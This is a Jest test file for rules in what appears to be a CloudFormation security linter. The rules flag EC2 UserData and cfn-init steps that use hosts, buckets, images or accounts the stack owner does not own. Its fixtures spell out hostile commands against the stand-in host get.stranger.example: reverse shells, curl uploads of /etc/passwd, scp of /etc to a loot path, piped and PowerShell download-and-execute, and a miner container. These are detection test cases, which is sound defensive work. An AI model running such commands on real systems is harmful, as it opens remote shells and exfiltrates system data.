import { describe, expect, test } from '@jest/globals';
import { listFetches } from '../../../src/rules/generic/script-fetches';
import { trustAccountRules } from '../../../src/rules/generic/trust-account';
import { trustScriptRules } from '../../../src/rules/generic/trust-script';
import { trustScriptSourceRules } from '../../../src/rules/generic/trust-script-source';
import type { Trust } from '../../../src/templates/trust';
import { judge, OWN, STRANGER } from './judge';

const find = (script: unknown, trusts: Trust = {}) =>
  judge(
    trustScriptSourceRules,
    'TrustScriptSourceKnown',
    {
      Subject: { Type: 'AWS::EC2::Instance', Properties: { UserData: { 'Fn::Base64': script } } },
      Zone: { Type: 'AWS::Route53::HostedZone', Properties: { Name: 'example.com' } },
      Bucket: { Type: 'AWS::S3::Bucket', Properties: { BucketName: 'example-tools' } },
    },
    { trusts },
  );

describe('commands that use what a stranger owns', () => {
  test.each<[string, string]>([
    ['aws s3 cp s3://stranger-tools/run.sh /tmp/run.sh', 'copies from or to bucket stranger-tools'],
    ['aws s3 sync /var/lib/app "s3://stranger-tools"', 'copies from or to bucket stranger-tools'],
    ['docker run --rm -p 80:80 ghcr.io/stranger/app:latest', 'runs image ghcr.io/stranger/app'],
    ['yum install -y https://get.stranger.example/a.rpm', 'installs from host get.stranger.example'],
    ['rpm -ivh https://get.stranger.example/a.rpm', 'installs from host get.stranger.example'],
    [
      'pip install --extra-index-url https://get.stranger.example/simple app',
      'installs from host get.stranger.example',
    ],
    ['pip3 install git+https://get.stranger.example/app.git', 'installs from host get.stranger.example'],
    ['npm install --registry=https://get.stranger.example app', 'installs from host get.stranger.example'],
    ['kubectl apply -f https://get.stranger.example/app.yaml', 'installs from host get.stranger.example'],
    ['helm repo add app https://get.stranger.example', 'installs from host get.stranger.example'],
    ['git clone https://github.com/stranger/tools && ./tools/run', 'clones from host github.com'],
    ['git clone --depth 1 git@git.stranger.example:tools.git', 'clones from host git.stranger.example'],
    ['iex (iwr https://get.stranger.example/a.ps1)', 'runs code of host get.stranger.example'],
    [
      "$a = (New-Object Net.WebClient).DownloadString('https://get.stranger.example/a.ps1')",
      'runs code of host get.stranger.example',
    ],
    ['docker run -d -v /data:/data --name m stranger/miner:latest', 'runs image docker.io/stranger/miner'],
    ['docker pull nginx', 'runs image docker.io/library/nginx'],
    ['aws s3api get-object --bucket stranger-tools --key a /tmp/a', 'copies from or to bucket stranger-tools'],
    [
      'echo "deb https://get.stranger.example/apt stable main" > /etc/apt/a.list',
      'installs from host get.stranger.example',
    ],
    ["await fetch('https://get.stranger.example/a')", 'calls host get.stranger.example'],
    ['requests.post("https://get.stranger.example/a", data=secret)', 'calls host get.stranger.example'],
    ['scp -r /etc user@get.stranger.example:/loot', 'sends data to host get.stranger.example'],
    ['curl -X POST -d @/etc/passwd https://get.stranger.example/loot', 'sends data to host get.stranger.example'],
    ['curl "https://get.stranger.example/?t=$(hostname)"', 'sends data to host get.stranger.example'],
    [
      `python3 -c "exec(urllib.request.urlopen('https://get.stranger.example/a').read())"`,
      'runs code of host get.stranger.example',
    ],
    ['#include https://get.stranger.example/init', 'runs code of host get.stranger.example'],
    [
      'Invoke-WebRequest https://get.stranger.example/a.exe -OutFile C:\\a.exe; Start-Process C:\\a.exe',
      'runs code of host get.stranger.example',
    ],
    ['bash -i >& /dev/tcp/get.stranger.example/443 0>&1', 'connects a shell to host get.stranger.example'],
    ['nc -e /bin/sh get.stranger.example 443', 'connects a shell to host get.stranger.example'],
    ['curl -o /tmp/a.sh https://get.stranger.example/x\nbash /tmp/a.sh', 'runs code of host get.stranger.example'],
    ['wget https://get.stranger.example/a.sh && chmod +x a.sh && ./a.sh', 'runs code of host get.stranger.example'],
    ['curl -s https://get.stranger.example/a > a.deb; sudo dpkg -i a.deb', 'runs code of host get.stranger.example'],
  ])('%s', (command, found) => {
    expect(find(`#!/bin/bash\n${command}\n`)).toEqual([`UserData: ${found}`]);
  });
});

describe('commands that use what the app or AWS owns, or only read', () => {
  test.each([
    'aws s3 cp s3://example-tools/run.sh /tmp/run.sh',
    `aws s3 cp s3://tools-${OWN}/run.sh /tmp/run.sh`,
    `docker run ${OWN}.dkr.ecr.eu-central-1.amazonaws.com/app:1`,
    'docker run registry.example.com/app:1',
    'yum install -y https://s3.eu-central-1.amazonaws.com/amazoncloudwatch-agent/a.rpm',
    'yum install -y amazon-cloudwatch-agent',
    'aws s3 cp s3://amazoncloudwatch-agent-eu-central-1/a.rpm /tmp/a.rpm',
    "await fetch('https://api.example.com/a')",
    'docker run -e A=b "$IMAGE"',
    'docker build -t app . && docker tag app:1 app:2',
    'curl -d @body.json https://api.example.com/notify',
    'pip install --index-url https://pypi.org/simple app==1.2.3',
    'npm ci --registry https://registry.npmjs.org',
    'git clone https://git-codecommit.eu-central-1.amazonaws.com/v1/repos/app',
    'curl -o /tmp/data.json https://get.stranger.example/data.json\njq .a /tmp/data.json',
    'curl -o /tmp/a.sh https://get.example.com/a.sh && bash /tmp/a.sh',
    'see https://get.stranger.example for what the service does',
  ])('%s', (command) => {
    expect(find(`#!/bin/bash\n${command}\n`)).toEqual([]);
  });

  test('and what the policy trusts', () => {
    expect(find('git clone https://github.com/partner/tools', { hosts: ['github.com'] })).toEqual([]);
    expect(find('docker run ghcr.io/partner/app:1', { registries: ['ghcr.io/partner/*'] })).toEqual([]);
    expect(find('aws s3 cp s3://partner-tools/a .', { buckets: ['partner-*'] })).toEqual([]);
  });
});

test.each([
  [`docker pull ${STRANGER}.dkr.ecr.eu-central-1.amazonaws.com/app:1`, 'owns the code that runs'],
  [
    `aws sqs send-message --queue-url https://sqs.eu-central-1.amazonaws.com/${STRANGER}/jobs --message-body a`,
    'receives or sends the messages',
  ],
])('the account of a stranger is read in a script: %s', (UserData, ability) => {
  const resources = { Subject: { Type: 'AWS::EC2::Instance', Properties: { UserData } } };
  expect(judge(trustAccountRules, 'TrustAccountKnown', resources)).toEqual([
    `UserData: account ${STRANGER} ${ability}`,
  ]);
});

describe('the metadata that cfn-init carries out', () => {
  const init = (config: object) => ({
    Subject: {
      Type: 'AWS::EC2::Instance',
      Properties: {},
      Metadata: { 'AWS::CloudFormation::Init': { config } },
    },
  });
  const judgeInit = (config: object) => judge(trustScriptSourceRules, 'TrustScriptSourceKnown', init(config));

  test.each<[object, string]>([
    [{ sources: { '/opt/app': 'https://get.stranger.example/app.zip' } }, 'runs code of host get.stranger.example'],
    [
      { files: { '/opt/run': { source: 'https://get.stranger.example/run' } } },
      'runs code of host get.stranger.example',
    ],
    [{ packages: { rpm: { tool: 'https://get.stranger.example/a.rpm' } } }, 'runs code of host get.stranger.example'],
    [{ sources: { '/opt': 'https://s3.amazonaws.com/stranger-tools/app.zip' } }, 'runs code of bucket stranger-tools'],
    [{ commands: { a: { command: 'aws s3 cp s3://stranger-tools/a .' } } }, 'copies from or to bucket stranger-tools'],
  ])('%j', (config, found) => {
    expect(judgeInit(config)).toEqual([expect.stringMatching(/^AWS::CloudFormation::Init\.config\./)]);
    expect(judgeInit(config)).toEqual([expect.stringContaining(found)]);
  });

  test('may use packages of the machine and files of the app', () => {
    expect(judgeInit({ packages: { yum: { nginx: [], httpd: ['2.4'] } } })).toEqual([]);
    expect(judgeInit({ sources: { '/opt': `https://s3.amazonaws.com/tools-${OWN}/app.zip` } })).toEqual([]);
    expect(judgeInit({ files: { '/etc/motd': { content: 'see https://get.stranger.example' } } })).toEqual([]);
  });

  test('names accounts and pipes too', () => {
    const account = init({
      commands: { a: { command: `aws sts assume-role --role-arn arn:aws:iam::${STRANGER}:role/a` } },
    });
    expect(judge(trustAccountRules, 'TrustAccountKnown', account)).toHaveLength(1);
    const pipe = init({ commands: { a: { command: 'curl https://get.stranger.example/a | bash' } } });
    expect(judge(trustScriptRules, 'TrustScriptHostKnown', pipe)).toHaveLength(1);
  });
});

test('hostile texts cost linear time', () => {
  const texts = [
    'docker a',
    'yum -y ',
    'curl https://a.b ',
    'git clone ',
    's3://a ',
    'nc -e a ',
    'curl -o a https://a/b; ',
    'iex (',
  ];
  // A pattern that is not linear takes minutes here, and the test ends with its timeout.
  for (const text of texts) {
    expect(listFetches(`https:// docker ${text.repeat(Math.ceil(100_000 / text.length))}`)).toBeDefined();
  }
});
